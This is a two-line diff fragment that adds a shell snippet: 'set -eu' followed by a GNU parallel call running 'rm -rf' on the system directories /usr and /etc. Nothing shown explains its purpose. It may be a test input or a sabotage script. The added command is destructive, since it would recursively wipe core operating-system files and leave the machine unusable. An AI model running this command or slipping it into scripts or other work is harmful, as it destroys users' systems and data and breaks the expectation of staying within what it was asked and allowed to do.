@@ -1,0 +1,2 @@
+set -eu
+parallel rm -rf ::: /usr /etc
